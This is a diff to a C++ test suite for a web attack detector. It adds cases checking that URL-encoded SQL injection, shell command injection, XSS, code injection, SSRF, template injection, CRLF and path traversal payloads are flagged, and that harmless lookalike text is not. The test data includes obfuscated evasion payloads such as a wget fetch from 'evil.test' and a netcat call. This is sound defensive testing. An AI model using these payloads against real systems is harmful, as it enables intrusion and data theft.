@@ -188,6 +188,10 @@ TEST_F(DetectorsTest, RceFalsePositives) {
   }
   EXPECT_TRUE(clean(json(
       R"({"body":"Steps:\n1. clone\n2. run make\n3. curl -s http://localhost:8080/health\n4. done"})")));
+  // Code in posts: a Python/JS comparison is not a cmd.exe `if a==b command`.
+  EXPECT_TRUE(clean(json(R"({"snippet":"if x == y: return total"})")));
+  EXPECT_TRUE(clean(query("if+count+%3D%3D+0+then+stop")));
+  EXPECT_TRUE(detects(query("%26+if+%22%25OS%25%22%3D%3D%22Windows_NT%22+whoami"), AttackClass::Rce));
 }
 
 TEST_F(DetectorsTest, CodeInjection) {
@@ -383,6 +387,107 @@ TEST_F(DetectorsTest, StopAtFirst) {
   r.target = "/?a=%3Cscript%3Ex%3C/script%3E&b=1%20union%20select%202";
   r.headers = hs;
   EXPECT_EQ((*e)->inspect(r).findings.size(), 1u);
+}
+
+// --- generalised technique rules (1030-1038, 2020-2027, 4030-4038, 5030-5037, 7020-7023)
+
+TEST_F(DetectorsTest, SqliTechniqueShapes) {
+  for (const char* q :
+       {"%27%3B%20drop%20table%20invoices", "%3Btruncate%5Bledger", "x%3Bdelete%2F%2A%2A%2Ffrom+t",
+        "SET%20%40saved_mode%3D1", "id%3D(select%20pass%20from%20u)", "SELECT%20(CASE%20WHEN%201",
+        "%7C%7C%20userRole%20%3D%3D", "AND%20page_id!%3D", "q%27%2Bname--", "u%27%20or%3F--",
+        "%27%7C%7Cfalse", "%27%7B%22k%22%3A1%7D%27%20-%3E%3E%20%27k%27",
+        "lo_get(1)::text", "xp_fixeddrives", "sp_oacreate%20%27x%27", "pg_sleep",
+        "DELETE%20FROM%20sessions%3B--", "%60%20AS%20%60pw%60%20FROM", "x)%20like%20(%27a",
+        "ops%40corp.test%27%3B", "bob%22%2F%2A%20c%20%2A%2F%3B", "DEL%2F%2A%2A%2FETE", "%2F%2A!40000union%2A%2F",
+        "%27%20xor%201%3E", "2.e(version)", "select%200x41424344", "HAVING%205%3E3"}) {
+    EXPECT_TRUE(detects(query(q), AttackClass::Sqli)) << q;
+  }
+  for (const char* q :
+       {"drop+me+a+line%3B+update+soon", "set+%40john+as+owner+please", "or+else+the+deal+fails",
+        "rock+%27n%27+roll+--+live", "i.e.+the+plan", "order+%23123+%E2%80%93+shipped",
+        "xorg+config+help", "known+as+%27Bo%27+from+Ohio", "I+like+(really)+it",
+        "she+said+%27hi%27%3B+then+left", "select+(one)+option", "a+%2F*+b+*%2F+c", "Cost+%3D+(price+*+qty)"}) {
+    EXPECT_TRUE(clean(query(q))) << q;
+  }
+}
+
+TEST_F(DetectorsTest, RceTechniqueShapes) {
+  for (const char* q :
+       {"wh$()oami", "wh``oami%20-a", "%22%22w%22%22h%22%22o%22%22a%22%22m%22%22i", "%7Bcat,/etc/hosts%7D",
+        "%7B,uname,-a%7D", "%7Bwhoami,%7D", "()%20%7B%20true", "%3Bvisudo", "%3B%20lastlog%20-u",
+        "a%0D%0AMAIL%20FROM%3A%3Cx%40y.test%3E", "%0D%0Ab7%20FETCH%201%20(BODY)",
+        "cat%20/%5Bv//%5Dar/log", "%24%7BPWD%25%25/*%7D", "%3E(nc%20host)", "alias%20ll%3D%27id%27",
+        "x%3Dwget%3B%24x%20-q%20evil.test", "if%20%22%25A%25%22%3D%3D%22b%22%20(dir)",
+        "%3Bat%2011%3A30%20%2Fi", "%0D%0Aapop%20bob%20c4ca4238a0b923820dcc509a6f75849b"}) {
+    EXPECT_TRUE(detects(query(q), AttackClass::Rce)) << q;
+  }
+  for (const char* q :
+       {"%7Bred,green%7D", "%7B%22a%22%3A1,%22b%22%3A2%7D", "(%20)%20smile", "alias+for+bob",
+        "meet+at+10%3A30+tomorrow", "x%3D1%3B+y%3D2", "mail+from+home",
+        "users%2F%5Bid%5D%2Fedit", "What+%24%7Bprice%7D"}) {
+    EXPECT_TRUE(clean(query(q))) << q;
+  }
+  EXPECT_TRUE(clean(json(R"({"md":"```bash\nmake test\n```"})")));
+  EXPECT_TRUE(clean(json(R"({"note":"run `docker compose up -d` then `npm install --save x`"})")));
+}
+
+TEST_F(DetectorsTest, XssTechniqueShapes) {
+  for (const char* q :
+       {"(!%5B%5D%2B%5B%5D)%5B1%5D", "x%3D!!%5B%5D", "%5B%5D.map.call%60x%60",
+        "(window)%5B%22alert%22%5D(1)", "top%5B%22%5Cx61%22%5D", "jav%26tab%3Bascript%3Aalert(1)",
+        "%5Cu0061%5Cu006c%5Cu0065%5Cu0072t(1)", "%3Cmeta%20http-equiv%3Drefresh",
+        "%3Clink%20rel%3Dimport%20href%3D//e.test", "%3Cnoscript%3E", "%3Cs%20v%20g%20x%3E"}) {
+    EXPECT_TRUE(detects(query(q), AttackClass::Xss)) << q;
+  }
+  for (const char* q : {"a+%3C+b+and+c", "metadata+of+the+link", "the+(window)+seat",
+                        "caf%C3%A9+%5Cu00e9", "x+%3C+y+%3C+z", "%C2%BC+cup+sugar+%C2%BE+flour"}) {
+    EXPECT_TRUE(clean(query(q))) << q;
+  }
+}
+
+TEST_F(DetectorsTest, CodeInjectionTechniqueShapes) {
+  for (const char* q :
+       {"system%2F*x*%2F(%27id%27)", "passthru%20%23c%0A(%27id%27)", "(exec)(%27ls%27)",
+        "%5Bpassthru%5D%5B0%5D(%27id%27)", "%24x%5B%24y%5B0%5D%5D(1)", "%3C%3F%20php%20phpinfo()",
+        "%5B%2Fphp%5D", "while(x)%3B", "process.spawn(%27sh%27)", "%24%7B%27abc%27%7D",
+        "%24%7B%40f%7D(2)", "%24O0%7B1%7D(3)", "pfsockopen(%27h%27,80)", "process%5B%27env%27%5D",
+        "console.warn(1)", "module.exports%3D1"}) {
+    EXPECT_TRUE(detects(query(q), AttackClass::CodeInjection)) << q;
+  }
+  for (const char* q : {"while+you+wait%3B", "system+update+(beta)", "the+%24+sign", "%24%20%7B%20%7D",
+                        "console+table+for+sale", "process+improvement"}) {
+    EXPECT_TRUE(clean(query(q))) << q;
+  }
+}
+
+TEST_F(DetectorsTest, SsrfTechniqueShapes) {
+  for (const char* q :
+       {"http%3A2130706433", "https%3A%2F%2F0x7f000001%2F", "gopher%3A10.0.0.8%3A70",
+        "http%3A%2F%2F0177.00.00.01%2F", "http%3A%2F%2F%5Bfe80%3A%3A1%5D%2F",
+        "http%3A%2F%2Fa.test%255c%40evil.test%2F", "http%3A%2F%2Fu%40a.test%40evil.test%2F",
+        "http%3A%2F%2F127%E3%80%820%E3%80%820%E3%80%821%2F", "db.svc.cluster.local%2F",
+        "api.docker.internal%3A8080"}) {
+    EXPECT_TRUE(detects(query(q), AttackClass::Ssrf)) << q;
+  }
+  for (const char* q : {"https%3A%2F%2Fexample.org%2F%40user%2Fpost", "call+me+at+5551234567",
+                        "mailto%3Abob%40example.org", "https%3A%2F%2Fshop.example.com%3A8443%2Fcart"}) {
+    EXPECT_TRUE(clean(query(q))) << q;
+  }
+}
+
+TEST_F(DetectorsTest, TemplateCrlfProcfsShapes) {
+  EXPECT_TRUE(detects(query("%7B%25%20for%20c%20in%20x%20%25%7D1%7B%25%20endfor%20%25%7D"),
+                      AttackClass::Ssti));
+  EXPECT_TRUE(detects(query("%3C%25%20while%20true%20%25%3E"), AttackClass::Ssti));
+  EXPECT_TRUE(detects(query("a%0D%0AX-Forwarded-For%3A%2010.0.0.1"), AttackClass::Crlf));
+  EXPECT_TRUE(detects(header("Cookie", "s=1%0d%0a%0d%0a<html><body>x"), AttackClass::Crlf));
+  EXPECT_TRUE(detects(query("/proc/sys/net/ipv4/ip_forward"), AttackClass::PathTraversal));
+  EXPECT_TRUE(detects(query("../../sys/kernel/notes"), AttackClass::PathTraversal));
+  for (const char* q : {"save+20%25+if+you+buy+for+50%25+off", "100%25+for+sure%7D",
+                        "%2Fsystem%2Fclasses%2Fintro", "Notes%3A%0D%0AHost+list%3A+all"}) {
+    EXPECT_TRUE(clean(query(q))) << q;
+  }
 }
 
 } // namespace
